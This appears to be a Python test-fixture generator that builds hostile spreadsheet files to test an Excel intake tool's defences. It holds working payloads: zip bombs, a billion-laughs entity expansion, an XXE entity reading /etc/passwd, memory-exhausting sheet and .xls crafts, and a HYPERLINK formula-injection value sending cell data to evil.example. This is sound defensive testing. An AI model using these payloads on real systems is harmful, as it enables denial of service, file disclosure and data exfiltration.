"""Generate the hostile-input corpus at test time (nothing large is committed).

Each ``make_<kind>(outdir)`` writes one file (or folder) and returns its path.
``python tests/hostile/make_corpus.py OUTDIR`` writes them all, to look at by hand.
"""
from __future__ import annotations

import os
import posixpath
import re
import shutil
import struct
import sys
import zipfile
import zlib
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
if str(ROOT) not in sys.path:
    sys.path.insert(0, str(ROOT))

SHEET_HEAD = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
              b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
              b'<dimension ref="A1"/><sheetData>')


# --------------------------------------------------------------------------
# Base workbooks
# --------------------------------------------------------------------------

def plain_xlsx(path: Path, sheets=("Sheet1",), rows=(("企业名称", "数量"), ("南京某某科技有限公司", 3))) -> Path:
    """A normal, small openpyxl workbook (not our template)."""
    import openpyxl
    wb = openpyxl.Workbook()
    wb.active.title = sheets[0]
    for name in sheets[1:]:
        wb.create_sheet(name)
    for r in rows:
        wb.active.append(list(r))
    wb.save(path)
    return path


def template_xlsx(path: Path, **kw) -> Path:
    """Our master template (empty tables), built by the TEMPLATE helper's code."""
    from xjr_excel.template import build as template
    return Path(template.build_workbook(path, city=kw.get("city", "南京市"), batch=kw.get("batch", 1),
                                        year=kw.get("year", 2026)))


def rewrite_zip(src: Path, dst: Path, change: dict[str, bytes | None], *, compress=zipfile.ZIP_DEFLATED) -> Path:
    """Copy a zip, replacing (bytes) or dropping (None) some members, adding new ones."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", compress) as zout:
        for info in zin.infolist():
            if info.filename in change:
                data = change[info.filename]
                if data is not None:
                    zout.writestr(info.filename, data)
            else:
                zout.writestr(info, zin.read(info))
        for name, data in change.items():
            if data is not None and name not in zin.namelist():
                zout.writestr(name, data)
    return dst


# --------------------------------------------------------------------------
# Not a workbook at all
# --------------------------------------------------------------------------

def make_empty(d: Path) -> Path:
    p = d / "空文件.xlsx"
    p.write_bytes(b"")
    return p


def make_truncated(d: Path) -> Path:
    full = plain_xlsx(d / "_full.xlsx")
    data = full.read_bytes()
    full.unlink()
    p = d / "下载中断.xlsx"
    p.write_bytes(data[: len(data) // 2])
    return p


def make_renamed_csv(d: Path) -> Path:
    p = d / "南京市_改名的CSV.xlsx"
    p.write_bytes("序号,企业名称,国家级专精特新“小巨人”企业批次\n1,南京某某科技有限公司,第三批\n2,南京某某材料有限公司,第五批\n"
                  .encode("gb18030"))
    return p


def make_html_xls(d: Path) -> Path:
    p = d / "系统导出.xls"
    p.write_text('<html xmlns:x="urn:schemas-microsoft-com:office:excel"><head><meta charset="utf-8"></head>'
                 "<body><table><tr><td>企业名称</td></tr><tr><td>南京某某科技有限公司</td></tr></table></body></html>",
                 encoding="utf-8")
    return p


def make_pdf(d: Path) -> Path:
    p = d / "扫描件.xlsx"
    p.write_bytes(b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n")
    return p


def make_png(d: Path) -> Path:
    p = d / "截图.xlsx"
    p.write_bytes(b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + os.urandom(64))
    return p


def make_docx(d: Path) -> Path:
    p = d / "实施方案_其实是Word.xlsx"
    with zipfile.ZipFile(p, "w") as z:
        z.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>')
        z.writestr("_rels/.rels", '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                   '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>')
        z.writestr("word/document.xml", '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>')
    return p


def make_ods(d: Path) -> Path:
    p = d / "WPS表格.xlsx"
    with zipfile.ZipFile(p, "w") as z:
        z.writestr(zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.spreadsheet")
        z.writestr("content.xml", '<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>')
    return p


def make_lock_file(d: Path) -> Path:
    p = d / "~$南京市.xlsx"
    p.write_bytes(b"\x05zhang" + b"\x00" * 48 + b" " * 50 + b"\x05\x00z\x00h\x00a\x00n\x00g\x00" + b"\x00" * 40)
    return p


def make_too_large(d: Path, size: int | None = None) -> Path:
    """A sparse file just over max_file_bytes (no real disk used)."""
    from xjr_excel.guard.check import input_limits
    p = d / "超大.xlsx"
    with open(p, "wb") as fh:
        fh.write(b"PK\x03\x04")
        fh.truncate(size or input_limits()["max_file_bytes"] + 1)
    return p


# --------------------------------------------------------------------------
# Hostile packages
# --------------------------------------------------------------------------

def _deflated_member(name: str, head: bytes, block: bytes = b"", times: int = 0,
                     declared: int | None = None) -> tuple:
    """(name, raw deflate data, crc, inflated size, declared size) for ``head + block * times``.

    After a full flush deflate keeps no history, so one compressed block can simply be
    repeated: a 1 GiB member costs a second to make instead of deflating 1 GiB.
    """
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = c.compress(head) + c.flush(zlib.Z_FULL_FLUSH)
    crc = zlib.crc32(head)
    if times:
        seg = c.compress(block) + c.flush(zlib.Z_FULL_FLUSH)
        data += seg * times
        for _ in range(times):
            crc = zlib.crc32(block, crc)
    data += b"\x03\x00"                     # final, empty fixed-Huffman block
    size = len(head) + len(block) * times
    return name, data, crc, size, size if declared is None else declared


def write_zip(path: Path, members: list[tuple]) -> Path:
    """A plain (non-zip64) zip from pre-deflated members; sizes are written as declared."""
    local, central = bytearray(), bytearray()
    for name, data, crc, _size, declared in members:
        n = name.encode()
        central += struct.pack("<4s6H3I5HII", b"PK\x01\x02", 20, 20, 0, 8, 0, 0x5C21, crc, len(data), declared,
                               len(n), 0, 0, 0, 0, 0, len(local)) + n
        local += struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 8, 0, 0x5C21, crc, len(data), declared,
                             len(n), 0) + n + data
    eocd = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, len(members), len(members), len(central), len(local), 0)
    path.write_bytes(bytes(local + central + eocd))
    return path


def _bomb(d: Path, name: str, inflated: int, declared: int | None = None) -> Path:
    """plain_xlsx with its first sheet replaced by ``inflated`` bytes of a sheet padded with spaces."""
    base = plain_xlsx(d / "_base.xlsx")
    members = []
    with zipfile.ZipFile(base) as z:
        for info in z.infolist():
            if info.filename == "xl/worksheets/sheet1.xml":
                block = b" " * (1 << 20)
                members.append(_deflated_member(info.filename, SHEET_HEAD, block,
                                                (inflated - len(SHEET_HEAD)) // len(block), declared))
            else:
                members.append(_deflated_member(info.filename, z.read(info)))
    base.unlink()
    return write_zip(d / name, members)


def make_zip_bomb(d: Path) -> Path:
    """A real workbook whose first sheet inflates to 1 GiB (about 1 MB on disk)."""
    return _bomb(d, "压缩炸弹.xlsx", (1 << 30) + len(SHEET_HEAD))


def make_zip_bomb_ratio(d: Path) -> Path:
    """Under the total limit (150 MiB) but a 1000:1 member: refused on the ratio."""
    return _bomb(d, "压缩比异常.xlsx", 150 << 20)


def make_zip_bomb_lying(d: Path) -> Path:
    """A 300 MiB member whose headers claim 4 KB: zip bombs that lie about their size."""
    return _bomb(d, "谎报大小.xlsx", 300 << 20, declared=4096)


def make_many_members(d: Path, n: int = 20000) -> Path:
    base = plain_xlsx(d / "_base.xlsx")
    p = d / "部件过多.xlsx"
    shutil.copy(base, p)
    base.unlink()
    with zipfile.ZipFile(p, "a", zipfile.ZIP_STORED) as z:
        for i in range(n):
            z.writestr(f"xl/media/x{i}.bin", b"")
    return p


BILLION_LAUGHS = (b'<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
                  + b"".join(b' <!ENTITY lol%d "%s">\n' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
                             for i in range(1, 10))
                  + b']>\n')


def make_entity_expansion(d: Path) -> Path:
    """Billion laughs in the first sheet of a normal workbook (in a text cell)."""
    base = plain_xlsx(d / "_base.xlsx")
    with zipfile.ZipFile(base) as z:
        sheet = z.read("xl/worksheets/sheet1.xml")
    sheet = re.sub(rb"^<\?xml[^>]*\?>\s*", b"", sheet)
    sheet = sheet.replace(b"<t>", b"<t>&lol9;", 1)
    assert b"&lol9;" in sheet
    p = rewrite_zip(base, d / "实体膨胀.xlsx", {"xl/worksheets/sheet1.xml": BILLION_LAUGHS + sheet})
    base.unlink()
    return p


def make_external_entity(d: Path) -> Path:
    """XXE: an external entity in the workbook part."""
    base = plain_xlsx(d / "_base.xlsx")
    with zipfile.ZipFile(base) as z:
        wb = z.read("xl/workbook.xml")
    wb = re.sub(rb"^<\?xml[^>]*\?>\s*", b"", wb)
    xxe = b'<?xml version="1.0"?>\n<!DOCTYPE workbook [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    p = rewrite_zip(base, d / "外部实体.xlsx", {"xl/workbook.xml": xxe + wb})
    base.unlink()
    return p


def make_huge_dimension(d: Path) -> Path:
    """A sheet that declares the whole grid (A1:XFD1048576) as used."""
    base = plain_xlsx(d / "_base.xlsx")
    with zipfile.ZipFile(base) as z:
        sheet = z.read("xl/worksheets/sheet1.xml")
    sheet = re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', sheet)
    p = rewrite_zip(base, d / "整表格式.xlsx", {"xl/worksheets/sheet1.xml": sheet})
    base.unlink()
    return p


def _sheet_part_of(z: zipfile.ZipFile, sheet: str) -> str:
    """The worksheet part of the sheet named ``sheet``."""
    from xml.etree import ElementTree as ET
    m = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
    rid = "{http://schemas.openxmlformats.org/officeDocument/2006/relationships}id"
    rels = {r.get("Id"): r.get("Target") for r in ET.fromstring(z.read("xl/_rels/workbook.xml.rels"))}
    for s in ET.fromstring(z.read("xl/workbook.xml")).iter(f"{m}sheet"):
        if s.get("name") == sheet:
            t = rels[s.get(rid)]
            return t.lstrip("/") if t.startswith("/") else posixpath.normpath(posixpath.join("xl", t))
    raise KeyError(sheet)


def styled_blanks(src: Path, dst: Path, sheets: list[str], *, rows: int = 0, cells: int = 0,
                  column_fill: bool = False, far_styled_cell: bool = False) -> Path:
    """``src`` with formatting but no content added, the way people and exporting systems do:
    every sheet's <dimension> claims A1:XFD1048576; ``rows``: styled empty rows below the data
    down to that row (each with ``cells`` styled blank cells); ``column_fill``: a fill on every
    column A:XFD; ``far_styled_cell``: a styled blank cell at XFD1048576."""
    change = {}
    with zipfile.ZipFile(src) as z:
        for sheet in sheets:
            part = _sheet_part_of(z, sheet)
            xml = re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', z.read(part))
            last = max([int(r) for r in re.findall(rb'<row r="(\d+)"', xml)] or [0])
            from openpyxl.utils import get_column_letter
            letters = [get_column_letter(i).encode() for i in range(1, cells + 1)]
            blank = b"".join(b'<row r="%d" s="1" customFormat="1" ht="18" customHeight="1">%s</row>'
                             % (r, b"".join(b'<c r="%s%d" s="1"/>' % (c, r) for c in letters))
                             for r in range(last + 1, rows + 1))
            if far_styled_cell:
                blank += b'<row r="1048576" s="1" customFormat="1"><c r="XFD1048576" s="1"/></row>'
            xml = re.sub(rb"<sheetData\s*/>", b"<sheetData></sheetData>", xml)
            xml = xml.replace(b"</sheetData>", blank + b"</sheetData>", 1)
            if column_fill:
                fill = b'<cols><col min="1" max="16384" width="12" style="1" customWidth="1"/></cols>'
                xml, n = re.subn(rb"<cols>.*?</cols>", fill, xml, count=1, flags=re.S)
                if not n:
                    xml = xml.replace(b"<sheetData", fill + b"<sheetData", 1)
            change[part] = xml
    return rewrite_zip(src, dst, change)


def make_styled_rows(d: Path) -> Path:
    """附3 formatted down to row 1,048,576 (three styled blank cells a row) under a lying dimension."""
    city = make_city(d)
    p = styled_blanks(city, d / "南京市_整列格式行.xlsx", ["附3"], rows=1048576, cells=3)
    city.unlink()
    return p


def make_column_fill(d: Path) -> Path:
    """Every attachment filled on all 16,384 columns, a styled cell at XFD1048576, lying dimensions."""
    city = make_city(d)
    p = styled_blanks(city, d / "南京市_整列填充.xlsx", ["附1", "附2", "附3", "附4", "附5"],
                      column_fill=True, far_styled_cell=True)
    city.unlink()
    return p


def make_lying_dimension(d: Path) -> Path:
    """A filled city whose every attachment claims A1:XFD1048576 as its used range."""
    city = make_city(d)
    p = styled_blanks(city, d / "南京市_已用区域.xlsx", ["封面", "附1", "附2", "附3", "附4", "附5"])
    city.unlink()
    return p


def make_many_rows(d: Path, rows: int = 25000) -> Path:
    """More rows than any submission, with a dimension that claims one cell."""
    base = plain_xlsx(d / "_base.xlsx")
    body = b"".join(b'<row r="%d"><c r="A%d"><v>%d</v></c></row>' % (i, i, i) for i in range(1, rows + 1))
    sheet = SHEET_HEAD + body + b"</sheetData></worksheet>"
    p = rewrite_zip(base, d / "行数过多.xlsx", {"xl/worksheets/sheet1.xml": sheet})
    base.unlink()
    return p


def make_far_cell(d: Path) -> Path:
    """Two cells, A1 and XFD1048576, under a <dimension> claiming A1:B2.

    Small and honest-looking, but a reader allocating the rectangle up to the farthest
    cell asks for 17 billion cells (python-calamine aborts the whole process).
    """
    base = plain_xlsx(d / "_base.xlsx")
    sheet = (SHEET_HEAD.replace(b'ref="A1"', b'ref="A1:B2"')
             + b'<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>2</v></c></row>'
             + b"</sheetData></worksheet>")
    p = rewrite_zip(base, d / "远处单元格.xlsx", {"xl/worksheets/sheet1.xml": sheet})
    base.unlink()
    return p


def make_implicit_columns(d: Path) -> Path:
    """A row of 1000 cells without r= attributes: their positions run to column ALL."""
    base = plain_xlsx(d / "_base.xlsx")
    sheet = SHEET_HEAD + b"<row>" + b"<c><v>1</v></c>" * 1000 + b"</row></sheetData></worksheet>"
    p = rewrite_zip(base, d / "隐式列.xlsx", {"xl/worksheets/sheet1.xml": sheet})
    base.unlink()
    return p


def make_xls_far_cell(d: Path, xls: Path | None = None) -> Path:
    """A legacy .xls whose first text cell was moved to row 60000 (same record size)."""
    import olefile
    p = d / "远处单元格.xls"
    p.write_bytes((xls or make_xls(d)).read_bytes())
    if xls is None:
        (d / "南京市_旧版.xls").unlink()
    with olefile.OleFileIO(str(p), write_mode=True) as ole:
        wb = bytearray(ole.openstream("Workbook").read())
        pos, bofs = 0, 0
        while pos + 4 <= len(wb):
            rtype, ln = struct.unpack_from("<HH", wb, pos)
            bofs += rtype == 0x0809
            if bofs > 1 and rtype in (0x00FD, 0x0204):      # LABELSST / LABEL in a sheet
                struct.pack_into("<H", wb, pos + 4, 59999)
                break
            pos += 4 + ln
        else:
            raise RuntimeError("no text cell found")
        ole.write_stream("Workbook", bytes(wb))
    return p


def make_string_count(d: Path) -> Path:
    """A shared-string table declaring four billion strings (calamine reserves them up front)."""
    base = plain_xlsx(d / "_base.xlsx")
    with zipfile.ZipFile(base) as z:
        ct, rels = z.read("[Content_Types].xml"), z.read("xl/_rels/workbook.xml.rels")
    ct = ct.replace(b"</Types>", b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
                    b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>')
    rels = rels.replace(b"</Relationships>", b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/'
                        b'officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>')
    sst = (b'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
           b'2006/main" count="1" uniqueCount="4000000000"><si><t>x</t></si></sst>')
    p = rewrite_zip(base, d / "字符串数异常.xlsx",
                    {"xl/sharedStrings.xml": sst, "[Content_Types].xml": ct, "xl/_rels/workbook.xml.rels": rels})
    base.unlink()
    return p


def make_xls_bad_record(d: Path) -> Path:
    """A legacy .xls whose BOUNDSHEET record claims to run 60000 bytes past the end of the stream."""
    import olefile
    p = d / "记录损坏.xls"
    p.write_bytes(make_xls(d).read_bytes())
    (d / "南京市_旧版.xls").unlink()
    with olefile.OleFileIO(str(p), write_mode=True) as ole:
        wb = bytearray(ole.openstream("Workbook").read())
        pos = 0
        while pos + 4 <= len(wb):
            rtype, ln = struct.unpack_from("<HH", wb, pos)
            if rtype == 0x0085:
                struct.pack_into("<H", wb, pos + 2, 60000)
                break
            pos += 4 + ln
        ole.write_stream("Workbook", bytes(wb))
    return p


def make_encrypted(d: Path) -> Path:
    """A real workbook with an open password (ECMA-376 agile encryption, as Excel writes)."""
    from msoffcrypto.format.ooxml import OOXMLFile
    base = template_xlsx(d / "_base.xlsx")
    p = d / "加密.xlsx"
    with open(base, "rb") as fin, open(p, "wb") as fout:
        OOXMLFile(fin).encrypt("1234", fout)
    base.unlink()
    return p


_XLS_CACHE: dict[str, bytes] = {}


def make_xls(d: Path) -> Path:
    """Our template saved as legacy .xls by LibreOffice (as a city might).

    Converted once per process; the .xls variants below start from a copy.
    """
    import office as render
    out = d / "南京市_旧版.xls"
    if "template" not in _XLS_CACHE:
        src = template_xlsx(d / "南京市_旧版.xlsx")
        _XLS_CACHE["template"] = render.convert(src, d, "xls").read_bytes()
        src.unlink()
    out.write_bytes(_XLS_CACHE["template"])
    return out


def make_encrypted_xls(d: Path, xls: Path | None = None) -> Path:
    """A legacy .xls with a FILEPASS (RC4) record in its globals, as Excel writes for an open password.

    Crafted: the WRITEACCESS record (same length) becomes FILEPASS, so the OLE stream size stays.
    """
    import olefile
    p = d / "加密旧版.xls"
    p.write_bytes((xls or make_xls(d)).read_bytes())
    if xls is None:
        (d / "南京市_旧版.xls").unlink()
    with olefile.OleFileIO(str(p), write_mode=True) as ole:
        wb = bytearray(ole.openstream("Workbook").read())
        pos = 0
        while pos + 4 <= len(wb):
            rtype, ln = struct.unpack_from("<HH", wb, pos)
            if rtype == 0x005C and ln >= 2:                # WRITEACCESS
                struct.pack_into("<HH", wb, pos, 0x002F, ln)
                struct.pack_into("<H", wb, pos + 4, 0x0001)   # wEncryptionType: RC4
                break
            if rtype == 0x000A:                            # EOF of the globals
                raise RuntimeError("no WRITEACCESS record to turn into FILEPASS")
            pos += 4 + ln
        ole.write_stream("Workbook", bytes(wb))
    return p


def make_wrong_template(d: Path) -> Path:
    """A normal workbook with unrelated sheets (a city's own statistics table)."""
    return plain_xlsx(d / "统计表.xlsx", sheets=("企业统计", "汇总"))


# --------------------------------------------------------------------------
# A filled city workbook, and partial damage to it
# --------------------------------------------------------------------------

ENTERPRISE = "南京恒远精密机械有限公司"
PLATFORM = "江苏省中小企业公共服务中心"
INJECTION = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'


def _credit_code() -> str:
    from samples_src.codes import credit_code
    return credit_code(430)


def city_rows(spec, year: int = 2026) -> dict[str, list[dict]]:
    """One plausible record per table, keyed by field key (values as a city types them).

    Two slips are left in on purpose, far from where the damage variants strike, so a
    test can see the rest of the workbook was still checked: 附5 邮政编码 has five digits
    (a5.postcode) and 260 staff is too few for 中型 in manufacturing (a3.size_staff).
    """
    import datetime as dt
    y1, y2 = year - 1, year - 2
    a4 = {"name": ENTERPRISE}
    vals = {"main_rev_share": (92, 93, 94), "export_share": (10, 12, 14), "foreign_certs": (2, 3, 4),
            "rd_share": (6.5, 7, 7.5), "patents": (12, 15, 18), "rd_institutions": (2, 2, 3),
            "standards": (3, 4, 5), "rd_conversions": (5, 7, 9), "quality_certs": (3, 3, 4),
            "standard_level": ("是",) * 3, "digital": ("是",) * 3, "ipo_plan": ("无", "无", "已进入辅导期"),
            "growth": (12, 15, 18)}
    for ind, triple in vals.items():
        for (period, _), v in zip(spec.periods, triple):
            a4[f"{ind}_{period}"] = v
    return {
        "a1": [{"seq": 1, "name": ENTERPRISE, "miit_batch": "第三批"}],
        "a2": [{"seq": 1, "name": PLATFORM, "content": "融资对接、技术咨询、人才培训",
                "doc_no": "工信部企业函〔2020〕123号"}],
        "a3": [{"name": ENTERPRISE, "legal_rep": "王建国", "credit_code": _credit_code(), "staff": 260,
                "reg_date": dt.datetime(2008, 5, 12), "capital": 5000, "size": "中型", "ownership": "民营",
                "industry": "C34 通用设备制造业", "segment": "精密减速器", "product_category": "3441020100 气体压缩机",
                "product_name": "RV减速器", "four_base": "是", "four_base_category": "核心基础零部件（元器件）",
                "fill_gap": "填补国内空白", "fill_gap_field": "精密减速器", "shortboard": "否",
                "intro": "企业专注精密减速器研发制造，拥有发明专利12项，产品用于工业机器人。"}],
        "a4": [a4],
        "a5_basic": [{"unit": PLATFORM, "reg_date": dt.datetime(2012, 6, 18), "nature": "事业单位",
                      "legal_rep": "李明", "address": "南京市鼓楼区中山路1号", "postcode": "21000",
                      "contact": "张华", "phone": "025-83331234", "mobile": "13912345678",
                      "email": "service@example.cn"}],
        "a5_ops": [{"unit": PLATFORM, "year": y, "revenue": 3000, "service_revenue": 2000, "assets": 8000,
                    "profit": 300, "tax": 120} for y in (y1, y2)],
        "a5_res": [{"unit": PLATFORM, "resource": "南京某某投资有限公司", "field": "资金"}],
        "a5_tot": [{"unit": PLATFORM, "year": y, "activities": 20, "enterprise_visits": 150, "agreements": 30,
                    "agreement_amount": 600} for y in (y1, y2)],
        "a5_srv": [{"unit": PLATFORM, "seq": 1, "enterprise": ENTERPRISE, "contact": "王建国",
                    "phone": "13812345678", "summary": "融资对接", "satisfaction": "满意"}],
    }


def fill_city(path: Path, *, city: str = "南京市", rows: dict | None = None, edit=None) -> Path:
    """Build the template at ``path`` and type one record into every table (like a city does).

    ``edit(wb, spec)`` may damage the workbook before it is saved.
    """
    import datetime as dt
    import openpyxl
    from xjr_excel.ooxml.safe_text import set_text
    from xjr_excel.spec.definition import get_spec
    spec = get_spec()
    template_xlsx(path, city=city)
    wb = openpyxl.load_workbook(path, keep_vba=path.suffix == ".xlsm")
    cover = wb[spec.sheet("cover").name]
    values = {"department": f"{city}工业和信息化局", "contact": "赵敏", "phone": "025-83330000",
              "filled_on": dt.datetime(2026, 5, 20)}
    for r in range(1, cover.max_row + 1):
        label = cover.cell(row=r, column=1).value
        for cf in spec.cover:
            if label == cf.label and cf.key in values:
                cover.cell(row=r, column=2).value = values[cf.key]
    plan = wb[spec.sheet("plan").name]
    t = spec.table("plan")
    for r in range(t.header_row + 1, plan.max_row + 1):
        if plan.cell(row=r, column=t.first_col + 1).value:
            plan.cell(row=r, column=t.first_col + 3).value = "本市建立专精特新企业培育库，落实财政奖补，开展点对点服务。"
    for key, records in (rows or city_rows(spec)).items():
        t = spec.table(key)
        ws = wb[spec.sheet(t.sheet).name]
        for i, rec in enumerate(records):
            for j, f in enumerate(t.fields):
                if f.key in rec:
                    set_text(ws.cell(row=t.header_row + 1 + i, column=t.first_col + j), rec[f.key])
    if edit:
        edit(wb, spec)
    wb.save(path)
    return path


def make_city(d: Path) -> Path:
    return fill_city(d / "南京市.xlsx")


def _table_cell(wb, spec, key: str, field: str, row: int = 0):
    t = spec.table(key)
    ws = wb[spec.sheet(t.sheet).name]
    col = t.first_col + [f.key for f in t.fields].index(field)
    return ws.cell(row=t.header_row + 1 + row, column=col)


def make_missing_sheet(d: Path) -> Path:
    """附2 deleted (the platform list): the rest must still be checked."""
    def edit(wb, spec):
        del wb[spec.sheet("a2").name]
    return fill_city(d / "南京市_缺附2.xlsx", edit=edit)


def make_renamed_column(d: Path) -> Path:
    """附3's 统一社会信用代码 header retyped as 信用代码号 (the column is no longer ours)."""
    def edit(wb, spec):
        t = spec.table("a3")
        ws = wb[spec.sheet("a3").name]
        ws.cell(row=t.header_row, column=t.first_col + [f.key for f in t.fields].index("credit_code")).value = "信用代码号"
    return fill_city(d / "南京市_改列名.xlsx", edit=edit)


def make_long_cell(d: Path) -> Path:
    """附3 企业简介 at Excel's 32,767-character cell limit."""
    def edit(wb, spec):
        _table_cell(wb, spec, "a3", "intro").value = "测" * 32767
    return fill_city(d / "南京市_超长单元格.xlsx", edit=edit)


def make_odd_text(d: Path) -> Path:
    """Zero-width and control characters pasted into names (Excel stores a control char as _x0007_)."""
    def edit(wb, spec):
        _table_cell(wb, spec, "a1", "name").value = ENTERPRISE + "\u200b"
        _table_cell(wb, spec, "a3", "segment").value = "精密_x0007_减速器"
    return fill_city(d / "南京市_不可见字符.xlsx", edit=edit)


def make_formula_errors(d: Path) -> Path:
    """附4 initial values that are formula errors (#DIV/0!, #REF!)."""
    def edit(wb, spec):
        _table_cell(wb, spec, "a4", "main_rev_share_i0").value = "#DIV/0!"
        _table_cell(wb, spec, "a4", "rd_share_i0").value = "#REF!"
    return fill_city(d / "南京市_公式错误.xlsx", edit=edit)


def make_formula_injection(d: Path) -> Path:
    """City text that a spreadsheet would run: =HYPERLINK(…), +…, @…, -…"""
    rows = city_rows(__import__("xjr_excel.spec.definition", fromlist=["get_spec"]).get_spec())
    rows["a1"][0]["name"] = INJECTION
    rows["a3"][0]["name"] = INJECTION
    rows["a4"][0]["name"] = INJECTION
    rows["a3"][0]["segment"] = "@SUM(1,2)"
    rows["a3"][0]["product_name"] = "+1+1"
    rows["a2"][0]["content"] = "-1+1 服务"
    return fill_city(d / "苏州市.xlsx", city="苏州市", rows=rows)


def make_xlsm_vba(d: Path) -> Path:
    """A city .xlsm carrying a VBA project (our ribbon macros): merged as data, never run."""
    return fill_city(d / "无锡市.xlsm", city="无锡市")


def make_duplicate(d: Path) -> Path:
    """The same city sent twice (identical bytes under two names); returns the folder."""
    a = make_city(d)
    shutil.copy(a, d / "南京市(1).xlsx")
    return d


def make_xls_city(d: Path) -> Path:
    """A filled city workbook saved as legacy .xls by LibreOffice."""
    import office as render
    (d / "_src").mkdir()
    src = fill_city(d / "_src" / "常州市.xlsx", city="常州市")
    out = render.convert(src, d, "xls")
    shutil.rmtree(d / "_src")
    return out


KINDS = {
    "empty": make_empty, "truncated": make_truncated, "renamed_csv": make_renamed_csv,
    "html_xls": make_html_xls, "pdf": make_pdf, "png": make_png, "docx": make_docx, "ods": make_ods,
    "lock_file": make_lock_file, "too_large": make_too_large,
    "zip_bomb": make_zip_bomb, "zip_bomb_ratio": make_zip_bomb_ratio, "zip_bomb_lying": make_zip_bomb_lying,
    "many_members": make_many_members, "entity_expansion": make_entity_expansion,
    "external_entity": make_external_entity, "huge_dimension": make_huge_dimension, "many_rows": make_many_rows,
    "far_cell": make_far_cell, "implicit_columns": make_implicit_columns, "xls_far_cell": make_xls_far_cell,
    "string_count": make_string_count, "xls_bad_record": make_xls_bad_record, "encrypted": make_encrypted, "xls": make_xls, "encrypted_xls": make_encrypted_xls,
    "wrong_template": make_wrong_template,
    "city": make_city, "missing_sheet": make_missing_sheet, "renamed_column": make_renamed_column,
    "long_cell": make_long_cell, "odd_text": make_odd_text, "formula_errors": make_formula_errors,
    "formula_injection": make_formula_injection, "xlsm_vba": make_xlsm_vba, "duplicate": make_duplicate,
    "xls_city": make_xls_city,
    "styled_rows": make_styled_rows, "column_fill": make_column_fill, "lying_dimension": make_lying_dimension,
}


if __name__ == "__main__":
    out = Path(sys.argv[1] if len(sys.argv) > 1 else "hostile-corpus")
    out.mkdir(parents=True, exist_ok=True)
    for kind, make in KINDS.items():
        sub = out / kind
        sub.mkdir(exist_ok=True)
        print(kind, make(sub))
